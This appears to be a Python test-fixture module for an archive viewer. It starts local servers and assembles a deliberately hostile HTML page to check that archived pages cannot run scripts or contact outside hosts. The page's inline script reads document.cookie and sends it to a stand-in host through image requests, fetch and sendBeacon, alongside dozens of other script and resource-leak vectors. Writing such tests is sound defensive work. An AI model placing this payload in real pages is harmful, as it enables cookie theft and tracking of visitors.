"""Data roots whose originals are hostile, oddly built or no pages, for tests of `/cundang/`."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from archive.root import DataRoot
from tests.stored import SITE, Got, Run, article, build, db, keep


@dataclass
class Enemy:
    """A host that a hostile page wants to reach: counts whoever knocks, even without a word."""

    address: str = ""
    asked: list[str] = field(default_factory=list)
    knocks: int = 0


@contextmanager
def enemy() -> Iterator[Enemy]:
    """A hostile page's own server, on another port of this machine."""
    found = Enemy()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            pass

    class Server(ThreadingHTTPServer):
        def get_request(self) -> tuple[socket.socket, object]:
            taken = super().get_request()
            found.knocks += 1
            return taken

    with _running(Server(("127.0.0.1", 0), Handler)) as found.address:
        yield found


@contextmanager
def serving(page: bytes) -> Iterator[str]:
    """A host that serves one page at every address, with no care at all."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *_: object) -> None:
            pass

    with _running(ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as address:
        yield f"{address}/"


@contextmanager
def _running(server: ThreadingHTTPServer) -> Iterator[str]:
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def hostile(to: str) -> str:
    """A report's page that tries all it can to run, to read and to reach `to`."""
    head = f"""
<base href="{to}/base/"><meta http-equiv="refresh" content="0;url={to}/refresh">
<meta http-equiv="x-dns-prefetch-control" content="on"><meta name="referrer" content="unsafe-url">
<link rel="preconnect" href="{to}"><LINK/rel=prefetch href={to}/prefetch>
<link rel="stylesheet" href="{to}/style.css"><link rel="icon" href="{to}/icon.ico">
<link rel="preload" as="image" href="{to}/preload.png"><link rel="modulepreload" href="{to}/m.js">
<link rel="prerender" href="{to}/prerender"><link rel="manifest" href="{to}/manifest.json">
<script src="{to}/script.js"></script><script type="module" src="{to}/module.js"></script>
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{to}/spec"]}}]}}</script>
<style>@import url("{to}/import.css"); @font-face {{font-family: f; src: url({to}/font.woff)}}
body {{background: url({to}/background.png); font-family: f}}
p::before {{content: url({to}/content.png)}} li {{list-style-image: url({to}/list.png)}}
body {{cursor: url({to}/cursor.cur), auto; filter: url({to}/filter.svg#f)}}</style>
<script>
var to = {to!r}; document.title = "ran";
try {{ var stolen = document.cookie }} catch (error) {{ var stolen = "none" }}
new Image().src = to + "/cookie?" + stolen;
fetch(to + "/fetch?" + stolen); navigator.sendBeacon(to + "/beacon", stolen);
try {{ new WebSocket(to.replace("http", "ws") + "/socket") }} catch (error) {{}}
try {{ new EventSource(to + "/events") }} catch (error) {{}}
try {{ navigator.serviceWorker.register("/sw.js") }} catch (error) {{}}
try {{ window.open(to + "/popup") }} catch (error) {{}}
try {{ parent.document.title = "reached"; top.location = to + "/top" }} catch (error) {{}}
try {{ localStorage.setItem("was", "here") }} catch (error) {{}}
setTimeout(function () {{ location = to + "/away" }}, 1);
</script>"""
    body = f"""
<img src="{to}/img.png" onerror="document.title='onerror'" attributionsrc="{to}/attribution">
<img srcset="{to}/srcset.png 2x"><picture><source srcset="{to}/source.png"><img src="x"></picture>
<svg onload="document.title='onload'"><image href="{to}/svg.png"/><use href="{to}/use.svg#a"/>
<script>document.title='svg'</script></svg>
<iframe src="{to}/frame"></iframe><iframe srcdoc="<script>top.title=1</script>
<img src={to}/srcdoc.png>"></iframe><object data="{to}/object"></object><embed src="{to}/embed">
<video src="{to}/video" poster="{to}/poster" autoplay></video>
<audio src="{to}/audio" autoplay></audio>
<form id="f" action="{to}/form"><input name="a" autofocus onfocus="document.title='focus'">
<button id="send">send</button></form><script>document.getElementById("f").submit()</script>
<input type="image" src="{to}/input.png">
<table background="{to}/table.png"><tr><td>x</td></tr></table>
<a id="script" href="javascript:void(document.title='link')">a</a>
<a id="away" href="{to}/link" ping="{to}/ping">b</a>
<a id="top" target="_top" href="{to}/toplink">c</a>
<a id="new" target="_blank" href="{to}/blank">d</a><a id="own" href="/nianbao/reports">e</a>
<a id="file" download href="data:text/plain,x">f</a>
<marquee onstart="document.title='m'">g</marquee>
<details open ontoggle="document.title='toggle'"><summary>h</summary></details>
<style>#drawn[href],#set[href],svg a{{pointer-events:auto!important}}
@layer x{{svg a{{pointer-events:auto!important}}}}</style>
<svg width="300" height="40"><a id="drawn"><text y="30">i</text><animate attributeName="href"
to="{to}/animate" begin="0s" dur="1s" fill="freeze"/></a></svg>
<svg width="300" height="40"><a id="set" xlink:href="{to}/xlink"><text y="30">j</text>
<set attributeName="href" to="{to}/set"/></a></svg>
<map name="m"><area shape="rect" coords="0,0,9,9" href="{to}/area" ping="{to}/ping"></map>
<img usemap="#m" width="10" height="10" alt="k">
<button form="f" formaction="{to}/action" id="act">l</button>
<noscript><meta http-equiv="refresh" content="0;url={to}/noscript">
<img src="{to}/no.png"></noscript>
"""
    page = article().decode()
    return page.replace("<head>", f"<head>{head}", 1).replace("</body>", f"{body}</body>", 1)


def root_of(folder: Path, originals: Mapping[str, bytes]) -> Path:
    """A data root with a release; each original, by its name, is a report of another agency."""
    data = DataRoot(folder)
    keep(data, Run([Got(f"{SITE}/{name}", body, title="") for name, body in originals.items()]))
    build(data)
    return folder


def versions_of(folder: Path) -> dict[str, str]:
    """Version by the name of its original."""
    rows = db(DataRoot(folder), "SELECT url, version_id FROM sources")
    return {url.removeprefix(f"{SITE}/"): version for url, version in rows}
